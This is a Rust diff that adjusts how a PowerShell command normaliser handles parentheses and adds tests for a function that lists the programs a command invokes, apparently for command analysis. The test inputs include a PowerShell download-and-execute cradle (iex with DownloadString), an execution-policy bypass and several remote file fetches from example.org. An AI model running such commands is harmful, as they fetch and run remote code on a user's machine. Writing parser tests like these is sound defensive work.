@@ -18,8 +18,8 @@ pub(crate) fn as_posix(text: &str) -> String {
             }
             ('\\', _) => '/',
             ('`', Some('"') | None) => ' ',
-            // What an outer shell would expand in them, these don't.
-            ('(' | ')', Some('"')) => ' ',
+            // What an outer shell would expand in them, these don't; a text for another PowerShell keeps its parentheses.
+            ('(', Some('"')) if before == '$' => ' ',
             (c, Some(_)) => c,
             ('"' | '\'', None) => {
                 quote = Some(c);
@@ -65,6 +65,13 @@ mod tests {
             programs("(New-Object Net.WebClient).DownloadFile('https://example.org/a', 'C:\\a')"),
             ["New-Object"]
         );
+        assert_eq!(
+            programs("powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('https://example.org/a'))\""),
+            ["powershell", "iex", "New-Object"]
+        );
+        assert_eq!(programs("echo \"$(iwr https://example.org/a)\""), ["echo"]);
+        assert_eq!(programs("powershell -NoProfile Start-BitsTransfer -Source https://example.org/a"), ["powershell", "Start-BitsTransfer"]);
+        assert_eq!(programs("powershell -ExecutionPolicy Bypass -File x.ps1"), ["powershell"]);
         assert_eq!(
             programs("curl.exe -o C:\\x.exe https://example.org/x && choco install -y git"),
             ["curl", "choco"]
